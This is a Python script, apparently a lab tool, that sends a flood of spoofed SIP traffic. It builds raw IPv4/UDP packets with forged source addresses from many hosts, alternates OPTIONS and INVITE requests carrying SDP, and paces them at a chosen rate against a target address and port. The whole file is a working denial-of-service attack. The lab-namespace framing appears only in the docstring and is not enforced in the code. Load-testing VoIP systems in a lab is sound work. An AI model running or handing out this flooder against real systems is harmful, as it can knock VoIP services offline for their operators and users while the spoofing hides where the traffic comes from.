"""Sends a spoofed SIP flood from a raw socket: OPTIONS and INVITEs with SDP from many sources.

Run inside a lab namespace as root:
    python flood_sender.py TARGET_IP TARGET_PORT SOURCE_PREFIX SOURCES RATE SECONDS
SOURCE_PREFIX is the first two octets (``10.99``); source i is PREFIX.(i // 250).(i % 250 + 1).
Datagrams alternate OPTIONS and INVITE (with SDP), each with its own Call-ID and branch, from
the sources in turn, paced in 10 ms slices at absolute deadlines. Prints, at the end, how
many were sent and how many seconds the sending took.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

OPTIONS = (
    "OPTIONS sip:bob@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {src}:5060;branch=z9hG4bKf{i}\r\n"
    "Max-Forwards: 70\r\nFrom: <sip:x@{src}>;tag=f{i}\r\nTo: <sip:bob@{target}>\r\n"
    "Call-ID: flood-{i}@{src}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"
)
SDP = (
    "v=0\r\no=- 1 1 IN IP4 {src}\r\ns=-\r\nc=IN IP4 {src}\r\nt=0 0\r\n"
    "m=audio 4000 RTP/AVP 0 8 101\r\na=rtpmap:101 telephone-event/8000\r\n"
)
INVITE = (
    "INVITE sip:bob@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {src}:5060;branch=z9hG4bKf{i}\r\n"
    "Max-Forwards: 70\r\nFrom: <sip:x@{src}>;tag=f{i}\r\nTo: <sip:bob@{target}>\r\n"
    "Call-ID: flood-{i}@{src}\r\nCSeq: 1 INVITE\r\nContact: <sip:x@{src}:5060>\r\n"
    "Content-Type: application/sdp\r\nContent-Length: {length}\r\n\r\n{sdp}"
)
SLICE = 0.01  # seconds per paced burst


def datagram(i: int, target: str, src: str) -> bytes:
    """SIP request number ``i`` from ``src``: OPTIONS when even, INVITE with SDP when odd."""
    if i % 2 == 0:
        return OPTIONS.format(target=target, src=src, i=i).encode()
    sdp = SDP.format(src=src)
    return INVITE.format(target=target, src=src, i=i, length=len(sdp), sdp=sdp).encode()


def ip_udp(src: str, dst: str, port: int, payload: bytes) -> bytes:
    """An IPv4 header and a UDP header (checksum 0: none, RFC 768) around ``payload``."""
    udp = struct.pack("!HHHH", 5060, port, 8 + len(payload), 0) + payload
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )  # fmt: skip
    checksum = _checksum(header)
    return header[:10] + struct.pack("!H", checksum) + header[12:] + udp


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    """Send the flood described by the arguments."""
    target, port, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    sources, rate, seconds = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    total = int(rate * seconds)
    addresses = [f"{prefix}.{n // 250}.{n % 250 + 1}" for n in range(sources)]
    packets = [
        ip_udp(addresses[i % sources], target, port, datagram(i, target, addresses[i % sources]))
        for i in range(total)
    ]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    per_slice = max(1, round(rate * SLICE))
    start = time.monotonic()
    sent = 0
    for first in range(0, total, per_slice):
        deadline = start + first / rate
        delay = deadline - time.monotonic()
        if delay > 0:
            time.sleep(delay)  # pacing the generator, not waiting for an outcome
        for packet in packets[first : first + per_slice]:
            sock.sendto(packet, (target, 0))
            sent += 1
    print(f"sent {sent} in {time.monotonic() - start:.2f} s", flush=True)


if __name__ == "__main__":
    main()
